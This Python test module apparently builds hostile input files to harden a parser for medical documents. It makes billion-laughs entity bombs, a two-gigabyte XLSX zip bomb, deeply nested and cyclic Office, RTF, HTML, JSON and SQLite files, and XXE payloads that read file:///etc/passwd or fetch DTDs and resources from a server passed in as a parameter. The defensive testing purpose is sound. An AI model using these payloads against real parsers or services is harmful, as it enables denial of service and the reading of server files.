"""Office documents, markup and databases that grow, turn in circles or lie."""

import sqlite3
import struct
import zlib

from rollcall.demo.writers.office_crypto import compound
from tests.hostile.archives import Zip, zeros, zip_of

LAUGHS = b'<?xml version="1.0"?>\n<!DOCTYPE %s [<!ENTITY a "MRN 44718230 ">' + b"".join(
    b'<!ENTITY %s "%s">' % (name, b"&%s;" % before * 10) for before, name in zip(
        (b"a", b"b", b"c", b"d", b"e", b"f", b"g", b"h"), (b"b", b"c", b"d", b"e", b"f", b"g", b"h", b"i"), strict=True
    )
) + b"]>\n"  # fmt: skip
SHEET = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
WORD = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def package(main: str, kind: str, parts: dict[str, bytes], relations: bytes = b"") -> dict[str, bytes]:
    """The members of an Office document."""
    types = b"http://schemas.openxmlformats.org/package/2006/content-types"
    package_of = b"http://schemas.openxmlformats.org/package/2006/relationships"
    folder, _, name = main.rpartition("/")
    return {
        "[Content_Types].xml": b'<Types xmlns="%s"><Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/%s" ContentType="%s"/></Types>' % (types, main.encode(), kind.encode()),
        "_rels/.rels": b'<Relationships xmlns="%s"><Relationship Id="r1" Type="%s/officeDocument" Target="%s"/>'
        b"</Relationships>" % (package_of, RELATIONS.encode(), main.encode()),
        f"{folder}/_rels/{name}.rels": b'<Relationships xmlns="%s">%s</Relationships>' % (package_of, relations),
        **parts,
    }  # fmt: skip


def workbook(sheet: bytes, **more: bytes) -> dict[str, bytes]:
    """The members of a workbook of one sheet."""
    relation = b'<Relationship Id="s1" Type="%s/worksheet" Target="worksheets/sheet1.xml"/>' % RELATIONS.encode()
    book = b'<workbook %s xmlns:r="%s"><sheets><sheet name="Census" sheetId="1" r:id="s1"/></sheets></workbook>'
    return package(
        "xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        {"xl/workbook.xml": book % (SHEET, RELATIONS.encode()), "xl/worksheets/sheet1.xml": sheet,
         **{f"xl/{name}.xml": content for name, content in more.items()}}, relation,
    )  # fmt: skip


def document(body: bytes) -> dict[str, bytes]:
    """The members of a Word document."""
    return package(
        "word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        {"word/document.xml": body},
    )  # fmt: skip


def _sheet(inside: bytes, before: bytes = b"") -> bytes:
    return b"<worksheet %s>%s<sheetData>%s</sheetData></worksheet>" % (SHEET, before, inside)


def _cell(place: bytes, value: bytes) -> bytes:
    return b'<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (place, value)


def sparse_xlsx() -> bytes:
    """Two cells, one at the far corner."""
    rows = b'<row r="1">%s</row><row r="1048576">%s</row>' % (
        _cell(b"A1", b"MRN 44718230"), _cell(b"XFD1048576", b"Ann Quorlen"),
    )  # fmt: skip
    return zip_of(workbook(_sheet(rows)))


def billion_rows_xlsx() -> bytes:
    """A sheet said to have a billion rows; merged and hidden columns without end."""
    before = b'<dimension ref="A1:XFD1048576000"/><cols><col min="1" max="2000000000" hidden="1"/></cols>'
    rows = b'<row r="1048576000">%s</row>' % _cell(b"ZZZZZZ1048576000", b"Ann Quorlen")
    merged = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    sheet = _sheet(rows, before).replace(b"</worksheet>", merged + b"</worksheet>")
    return zip_of(workbook(sheet))


def xlsx_bomb() -> bytes:
    """A sheet whose XML is two gigabytes of blanks, in a part whose size is not told."""
    made = Zip()
    for name, content in workbook(b"").items():
        packed, size = (zeros(2 << 30), 2 << 30) if name.endswith("sheet1.xml") else (content, len(content))
        method, crc = (8, 0) if name.endswith("sheet1.xml") else (0, zlib.crc32(content))
        at = made.put(name.encode(), packed, method, crc, size)
        made.list(name.encode(), at, method, crc, len(packed), size)
    return made.done()


def many_cells_xlsx() -> bytes:
    """Two million short cells in a few kilobytes."""
    row = b"<row>" + b"<c><v>1</v></c>" * 1000 + b"</row>"
    return zip_of(workbook(_sheet(row * 2_000)))


def laughs_xlsx() -> bytes:
    """Laughs in the shared strings and in the sheet."""
    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>&i;</t></is></c></row>'
    return zip_of(workbook(LAUGHS % b"worksheet" + _sheet(row), sharedStrings=LAUGHS % b"sst" + b"<sst>&i;</sst>"))


def laughs_docx() -> bytes:
    """Laughs in a document."""
    body = b"<w:document %s><w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p></w:body></w:document>" % WORD
    return zip_of(document(LAUGHS % b"w:document" + body))


def deep_docx() -> bytes:
    """Tables in tables, twenty thousand deep."""
    deep = 20_000
    body = b"<w:tbl><w:tr><w:tc>" * deep + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * deep
    return zip_of(document(b"<w:document %s><w:body>%s</w:body></w:document>" % (WORD, body)))


def wide_docx() -> bytes:
    """A table row of a million cells, and a cell that spans two billion columns."""
    cells = b"<w:tc><w:tcPr><w:gridSpan w:val='2000000000'/></w:tcPr><w:p/></w:tc>" + b"<w:tc><w:p/></w:tc>" * 200_000
    body = b"<w:tbl><w:tr><w:trPr><w:gridBefore w:val='2000000000'/></w:trPr>%s</w:tr></w:tbl>" % cells
    return zip_of(document(b"<w:document %s><w:body>%s</w:body></w:document>" % (WORD, body)))


def repeated_ods() -> bytes:
    """A cell said to be repeated two billion times in a row repeated as often."""
    office = b"urn:oasis:names:tc:opendocument:xmlns:"
    body = (
        b'<office:document-content xmlns:office="%soffice:1.0" xmlns:table="%stable:1.0" xmlns:text="%stext:1.0">'
        b'<office:body><office:spreadsheet><table:table table:name="Census">'
        b'<table:table-row table:number-rows-repeated="2000000000">'
        b'<table:table-cell table:number-columns-repeated="2000000000"><text:p>Ann Quorlen</text:p></table:table-cell>'
        b"</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    ) % ((office,) * 3)
    return zip_of({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": body})


def spaces_odt() -> bytes:
    """Two billion blanks in one element."""
    office = b"urn:oasis:names:tc:opendocument:xmlns:"
    body = (
        b'<office:document-content xmlns:office="%soffice:1.0" xmlns:text="%stext:1.0"><office:body><office:text>'
        b'<text:p>Ann<text:s text:c="2000000000"/>Quorlen</text:p></office:text></office:body>'
        b"</office:document-content>"
    ) % ((office,) * 2)
    return zip_of({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": body})


def fat_cycle() -> bytes:
    """A compound file whose sectors follow each other in a circle."""
    made = bytearray(compound([("WordDocument", bytes(9_000)), ("1Table", bytes(9_000))]))
    fat = (struct.unpack_from("<L", made, 76)[0] + 1) * 512
    for sector in range(40):
        struct.pack_into("<L", made, fat + 4 * sector, max(0, sector - 1))
    return bytes(made)


def lying_compound() -> bytes:
    """A compound file whose streams are said to be four gigabytes, its directory a tree that holds itself."""
    made = bytearray(compound([("Workbook", bytes(9_000)), ("Book", bytes(9_000))]))
    directory = (struct.unpack_from("<L", made, 48)[0] + 1) * 512
    for entry in range(3):
        struct.pack_into("<LLL", made, directory + 128 * entry + 68, 1, 1, 1)
        struct.pack_into("<Q", made, directory + 128 * entry + 120, 0xFFFFFFF0)
    return bytes(made)


def difat_cycle() -> bytes:
    """A compound file whose list of tables goes on in itself, and is said to be endless."""
    made = bytearray(compound([("WordDocument", bytes(9_000))]))
    struct.pack_into("<LL", made, 68, 0, 0xFFFFFF)
    struct.pack_into("<L", made, 512 + 508, 0)
    return bytes(made)


def deep_rtf() -> bytes:
    """A hundred thousand groups, one in the other."""
    return b"{\\rtf1 MRN 44718230 " + b"{\\b " * 100_000 + b"Ann Quorlen" + b"}" * 100_000 + b"}"


def lying_rtf() -> bytes:
    """Bytes that are said to follow and do not; numbers without end."""
    return b"{\\rtf1 Ann{\\bin2147483647 x}{\\u-99999999999999 ?}\\fs" + b"9" * 100_000 + b"{\\object\\objdata " + (
        b"0105000002000000ffffff7f" + b"00" * 40
    ) + b"}\\trowd" + b"\\cellx1" * 100_000 + b"\\cell" * 100_000 + b"\\row}"  # fmt: skip


def deep_html() -> bytes:
    """200,000 divisions, one in the other."""
    return b"<html><body>" + b"<div>" * 200_000 + b"Ann Quorlen" + b"</div>" * 200_000


def deep_tables_html() -> bytes:
    """Tables in tables, ten thousand deep; a cell that spans a billion columns and rows."""
    return (b"<html><body><table><tr><td colspan=1000000000 rowspan=1000000000>Ann</td></tr><tr><td>Bob</table>"
            + b"<table><tr><td>" * 10_000 + b"Quorlen")  # fmt: skip


def remote_html(server: str) -> bytes:
    """Everything in HTML that may be fetched."""
    here = f"http://{server}/".encode()
    return (
        b'<html><head><base href="%s"><link rel="stylesheet" href="%sa.css"><link rel="dns-prefetch" href="%s">'
        b'<meta http-equiv="refresh" content="0; url=%sb"><style>@import "%sc.css";'
        b"body{background:url(%sd.png)}</style>"
        b'<script src="%se.js"></script></head><body background="%sf.png"><img src="%sg.png" srcset="%sh.png 2x">'
        b'<iframe src="%si"></iframe><object data="%sj"></object><embed src="%sk"><video poster="%sl"></video>'
        b'<img src="file:///etc/passwd"><img src="cid:none"><p>Patient: Ann Quorlen</p></body></html>'
    ) % ((here,) * 14)


def external_xml(server: str) -> bytes:
    """Entities and a DTD from elsewhere, and a file of this machine."""
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "http://{server}/a.dtd" [<!ENTITY b SYSTEM "file:///etc/passwd">'
        f'<!ENTITY c SYSTEM "http://{server}/c"><!ENTITY % d SYSTEM "http://{server}/d">%d;]>\n<a>&b;&c;</a>'
    ).encode()


def remote_docx(server: str) -> bytes:
    """A template and a picture from elsewhere."""
    relation = "".join(
        f'<Relationship Id="r{number}" Type="{RELATIONS}/{kind}" Target="http://{server}/{kind}"'
        ' TargetMode="External"/>'
        for number, kind in enumerate(("attachedTemplate", "image", "oleObject", "hyperlink"))
    ).encode()
    body = b"<w:document %s><w:body><w:p><w:r><w:t>Ann Quorlen</w:t></w:r></w:p></w:body></w:document>" % WORD
    return zip_of(package(
        "word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        {"word/document.xml": body}, relation,
    ))  # fmt: skip


def laughs_xml() -> bytes:
    """Laughs in any XML."""
    return LAUGHS % b"patients" + b"<patients><patient><name>&i;</name></patient></patients>"


def laughs_fhir() -> bytes:
    """Laughs in a patient of FHIR."""
    return LAUGHS % b"Patient" + b'<Patient xmlns="http://hl7.org/fhir"><name><family value="&i;"/></name></Patient>'


def laughs_ccda() -> bytes:
    """Laughs in a clinical document."""
    return (
        LAUGHS % b"ClinicalDocument" + b'<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&i;</title></ClinicalDocument>'
    )


def deep_xml() -> bytes:
    """Elements a hundred thousand deep."""
    return b"<?xml version='1.0'?>" + b"<a>" * 100_000 + b"Ann Quorlen" + b"</a>" * 100_000


def deep_json() -> bytes:
    """Arrays and objects, a hundred thousand deep."""
    return b'{"resourceType":"Bundle","entry":' + b'[{"a":' * 100_000 + b"1" + b"}]" * 100_000 + b"}"


def sqlite() -> bytes:
    """Views that count without end, triggers, and a table that is a view of itself."""
    base = sqlite3.connect(":memory:")
    base.executescript(
        """
        CREATE TABLE patients (name TEXT, mrn TEXT);
        INSERT INTO patients VALUES ('Ann Quorlen', '44718230');
        CREATE VIEW endless AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x FROM n;
        CREATE VIEW heavy AS SELECT randomblob(1000000000) FROM endless;
        CREATE TRIGGER again AFTER INSERT ON patients BEGIN INSERT INTO patients SELECT * FROM patients; END;
        CREATE TABLE generated (a TEXT, b TEXT GENERATED ALWAYS AS (printf('%.*c', 100000000, 'x')) VIRTUAL);
        INSERT INTO generated (a) VALUES ('Ann Quorlen');
        PRAGMA writable_schema = 1;
        INSERT INTO sqlite_master VALUES ('view', 'circle', 'circle', 0, 'CREATE VIEW circle AS SELECT * FROM circle');
        """
    )
    return bytes(base.serialize())


def broken_sqlite() -> bytes:
    """A database whose pages lead to themselves."""
    base = sqlite3.connect(":memory:")
    base.execute("CREATE TABLE patients (name TEXT)")
    base.executemany("INSERT INTO patients VALUES (?)", (("Ann Quorlen" * 40,) for _ in range(2_000)))
    made = bytearray(base.serialize())
    for page in range(1, len(made) // 4096):
        struct.pack_into(">L", made, page * 4096 + 8, 2)
        struct.pack_into(">H", made, page * 4096 + 3, 65_535)
    return bytes(made)
